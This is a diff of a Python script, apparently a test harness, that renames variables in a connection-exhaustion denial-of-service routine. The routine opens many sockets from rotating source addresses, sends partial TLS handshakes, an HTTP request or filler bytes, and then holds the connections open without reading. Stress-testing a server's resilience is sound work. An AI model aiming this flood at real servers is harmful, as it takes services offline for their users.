@@ -33,46 +33,46 @@ REST = (
 ENROLL = (b"", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc", b"GET / HTTP/1.1\r\n\r\n", b"\x16" * 5000)
 
 
-async def _hold(address: tuple[str, int], source: str, said: bytes, until: float) -> None:
-    """One connection that says something and reads nothing, until it is closed on it."""
-    made = socket.socket()
-    made.setblocking(False)
+async def _hold(address: tuple[str, int], source: str, payload: bytes, until: float) -> None:
+    """Send `payload` on one connection and read nothing, until the other side closes it."""
+    connection = socket.socket()
+    connection.setblocking(False)
     # An attacker's buffers are small: what it does not read stays with the server.
-    made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
     loop = asyncio.get_running_loop()
-    with contextlib.suppress(OSError), made:
-        made.bind((source, 0))
-        await loop.sock_connect(made, address)
-        await loop.sock_sendall(made, said)
+    with contextlib.suppress(OSError), connection:
+        connection.bind((source, 0))
+        await loop.sock_connect(connection, address)
+        await loop.sock_sendall(connection, payload)
         while time.monotonic() < until:
             await asyncio.sleep(0.5)
-            if _closed(made):
+            if _closed(connection):
                 return
 
 
-def _closed(made: socket.socket) -> bool:
-    """Whether the other side has closed it, read or not."""
-    return made.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] != _ESTABLISHED
+def _closed(connection: socket.socket) -> bool:
+    """Check whether the other side has closed the connection, whether or not its data was read."""
+    return connection.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] != _ESTABLISHED
 
 
 async def attack(host: str, port: int, kinds: tuple[bytes, ...], seconds: float) -> int:
     """Hold HELD connections; returns how many were made."""
-    until, held, made = time.monotonic() + seconds, set[asyncio.Task[None]](), 0
-    for source, said in zip(itertools.cycle(SOURCES), itertools.cycle(kinds), strict=False):
+    until, tasks, attempts = time.monotonic() + seconds, set[asyncio.Task[None]](), 0
+    for source, payload in zip(itertools.cycle(SOURCES), itertools.cycle(kinds), strict=False):
         if time.monotonic() > until:
             break
-        if len(held) < HELD:
-            task = asyncio.ensure_future(_hold((host, port), source, said, until))
-            held.add(task)
-            task.add_done_callback(held.discard)
-            made += 1
+        if len(tasks) < HELD:
+            task = asyncio.ensure_future(_hold((host, port), source, payload, until))
+            tasks.add(task)
+            task.add_done_callback(tasks.discard)
+            attempts += 1
         await asyncio.sleep(PAUSE)
-    await asyncio.gather(*held, return_exceptions=True)
-    return made
+    await asyncio.gather(*tasks, return_exceptions=True)
+    return attempts
 
 
 def main() -> None:
-    """As the arguments say; prints how many connections were made."""
+    """Attack as the arguments state, and print how many connections were opened."""
     address, what, seconds = sys.argv[1:]
     host, _, port = address.rpartition(":")
     os.nice(10)  # it stands for other machines, whose processors are not ours
